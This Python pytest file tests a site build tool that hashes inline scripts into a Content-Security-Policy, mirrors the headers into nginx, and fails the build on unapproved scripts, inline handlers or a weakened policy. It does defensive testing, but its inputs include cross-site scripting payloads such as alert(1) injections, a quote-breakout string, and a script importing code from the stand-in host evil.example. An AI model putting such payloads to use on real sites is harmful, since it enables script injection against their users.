"""sitebuild/security_headers.py and deploy/: the CSP hashes every inline script, and nginx says the same."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from sitebuild import security_headers as sh
from sitebuild.nginx import render_nginx

ROOT = Path(__file__).resolve().parents[2]
NGINX_BIN = shutil.which("nginx") or "/usr/sbin/nginx"


AGREED = {
    "default-src": ["'self'"],
    "worker-src": ["'self'"],
    "connect-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "style-src": ["'self'"],
    "font-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
}


def page(body: str, head: str = "") -> str:
    return f"<!doctype html><html><head>{head}</head><body>{body}</body></html>"


@pytest.fixture
def mini_site(tmp_path: Path) -> Path:
    """A tiny built site: two pages with inline scripts, a hashed and an unhashed asset."""
    site = tmp_path / "site"
    (site / "sv").mkdir(parents=True)
    (site / "assets" / "javascripts").mkdir(parents=True)
    (site / "index.html").write_text(page("<p>Hei</p>", "<script>var a=1</script>"), "utf-8")
    (site / "sv" / "index.html").write_text(
        page('<script type="application/json" id="__config">{"x":1}</script><script>var a=2</script>'), "utf-8"
    )
    (site / "assets" / "javascripts" / "bundle.0123abcd.min.js").write_text("x()", "utf-8")
    (site / "assets" / "javascripts" / "lunr.js").write_text("y()", "utf-8")
    return site


# The templates of the mini site: each writes one inline script.
MINI_TEMPLATES = [sh.TemplateScript("test", sh.script_pattern("var a={{ n }}"))]


# --- unit: reading HTML and writing _headers -----------------------------------------------------


def test_only_executable_inline_scripts_are_hashed() -> None:
    """JSON data blocks, external scripts and empty scripts need no hash; modules and plain scripts do."""
    html = (
        '<script src="a.js"></script><script type="application/json">{"a": 1}</script><script></script>'
        '<script type="module">import "./m.js"</script><script type="text/javascript">b()</script>'
    )
    assert sh.scan_html(html).scripts == ['import "./m.js"', "b()"]


def test_hashes_are_taken_over_normalised_newlines() -> None:
    """The browser hashes the script after turning CR LF into LF, so the hook does too."""
    assert sh.scan_html("<script>a()\r\nb()</script>").scripts == ["a()\nb()"]
    assert sh.csp_hash("a()\nb()") == sh.csp_hash(sh.scan_html("<script>a()\r\nb()</script>").scripts[0])


def test_the_built_headers_hash_each_script_and_cache_hashed_files(mini_site: Path) -> None:
    """site/_headers: one hash per distinct inline script; immutable only for content-hashed names."""
    rules = sh.parse_headers(sh.build_headers(mini_site, allowed=MINI_TEMPLATES))
    policy = sh.directives(sh.site_wide(rules)["Content-Security-Policy"])
    hashes = sorted([sh.csp_hash("var a=1"), sh.csp_hash("var a=2")])
    assert policy["script-src"] == ["'self'", "'wasm-unsafe-eval'", *hashes]
    immutable = {path for path, headers in rules if ("Cache-Control", sh.IMMUTABLE) in headers}
    assert immutable - {"/assets/pyodide/*"} == {"/assets/javascripts/bundle.0123abcd.min.js"}


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<button onclick="go()">Go</button>', "inline handler <button onclick=…>"),
        ('<a href="javascript:go()">Go</a>', "inline handler <a href="),
        ('<p style="color: red">x</p>', "style="),
        ("<style>p{color:red}</style>", "inline <style>"),
    ],
)
def test_the_build_fails_on_what_the_policy_would_block(mini_site: Path, html: str, expected: str) -> None:
    """An inline handler, javascript: URL or inline style fails the build and names the page."""
    (mini_site / "sv" / "bad.html").write_text(page(html), "utf-8")
    with pytest.raises(sh.SecurityHeadersError) as error:
        sh.build_headers(mini_site, allowed=MINI_TEMPLATES)
    assert "sv/bad.html: " in str(error.value) and expected in str(error.value)


@pytest.mark.parametrize(
    ("policy", "expected"),
    [
        ("default-src 'self'; script-src 'self' {inline-script-hashes} 'unsafe-inline'", "'unsafe-inline'"),
        ("default-src 'self'; script-src 'self' {inline-script-hashes} 'unsafe-eval'", "'unsafe-eval'"),
        ("default-src 'self'; script-src 'self'", "{inline-script-hashes}"),
    ],
)
def test_a_weakened_policy_source_fails_the_build(mini_site: Path, tmp_path: Path, policy: str, expected: str) -> None:
    """deploy/_headers cannot let 'unsafe-inline' or 'unsafe-eval' into script-src, or drop the hashes."""
    source = tmp_path / "_headers"
    source.write_text(f"/*\n  Content-Security-Policy: {policy}\n", "utf-8")
    with pytest.raises(sh.SecurityHeadersError, match=expected.replace("{", r"\{").replace("}", r"\}")):
        sh.build_headers(mini_site, source, allowed=MINI_TEMPLATES)


def test_nginx_gets_the_same_headers(mini_site: Path) -> None:
    """Each `/*` header of _headers becomes an `add_header … always;` line, value for value."""
    built = sh.build_headers(mini_site, allowed=MINI_TEMPLATES)
    nginx = render_nginx(built)
    for name, value in sh.site_wide(sh.parse_headers(built)).items():
        assert f'    add_header {name} "{value}" always;' in nginx
    assert "text/javascript   mjs;" in nginx and "brotli_static on;" in nginx and sh.IMMUTABLE in nginx


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(1)</script>",  # a label published raw
        '<script>var a=1;alert("x")</script>',  # a template's script with more after it
        '<script type="module">import("//evil.example/x.js")</script>',
    ],
)
def test_an_inline_script_no_template_writes_fails_the_build(mini_site: Path, script: str) -> None:
    """Only the templates' own inline scripts are hashed; any other fails the build, naming the page."""
    (mini_site / "sv" / "bad.html").write_text(page("<p>x</p>" + script), "utf-8")
    with pytest.raises(sh.SecurityHeadersError) as error:
        sh.build_headers(mini_site, allowed=MINI_TEMPLATES)
    assert "sv/bad.html: an inline <script> that no template of the site writes" in str(error.value)


def test_the_project_lists_its_template_scripts() -> None:
    """The theme's storage, palette and tab scripts and the calculator's boot script, and nothing that
    a page's content could write: every pattern starts with a fixed text, and expressions are short values."""
    scripts = sh.template_scripts()
    sources = [script.source for script in scripts]
    assert "overrides/assets/js/calculator/boot.js" in sources
    assert any(source.startswith("partials/javascripts/base.html") for source in sources)
    for script in scripts:
        assert not script.matches("alert(1)") and not script.matches("")
    base = next(script for script in scripts if script.source.startswith("partials/javascripts/base.html"))
    template = (sh._theme_dir() / "partials/javascripts/base.html").read_text("utf-8")
    body = sh._TEMPLATE_SCRIPT.search(template).group("body").strip()
    assert base.matches(sh._JINJA.sub("../..", body))
    assert not base.matches(sh._JINJA.sub('");alert(1);//', body))


def test_a_stale_template_list_fails_the_build(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sh, "THEME_TEMPLATES", ("partials/javascripts/no-such.html",))
    with pytest.raises(sh.SecurityHeadersError, match=r"no-such\.html"):
        sh.template_scripts()
    monkeypatch.setattr(sh, "THEME_TEMPLATES", ("partials/footer.html",))
    with pytest.raises(sh.SecurityHeadersError, match="holds no inline script"):
        sh.template_scripts()


def test_the_policy_source_says_what_was_agreed() -> None:
    """deploy/_headers: only the site itself, WebAssembly allowed, no unsafe-* for scripts; the other headers."""
    headers = sh.site_wide(sh.parse_headers((ROOT / "deploy" / "_headers").read_text("utf-8")))
    policy = sh.directives(headers["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'", "'wasm-unsafe-eval'", sh.PLACEHOLDER]
    assert {name: sources for name, sources in policy.items() if name != "script-src"} == AGREED
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] and headers["Permissions-Policy"]


def test_hsts_is_sent_for_a_year_without_binding_other_names() -> None:
    """HTTPS hosts send Strict-Transport-Security; no includeSubDomains or preload (deploy/_headers says why)."""
    text = (ROOT / "deploy" / "_headers").read_text("utf-8")
    headers = sh.site_wide(sh.parse_headers(text))
    assert headers["Strict-Transport-Security"] == "max-age=31536000"
    assert "Strict-Transport-Security: a host that serves the site over HTTPS" in text
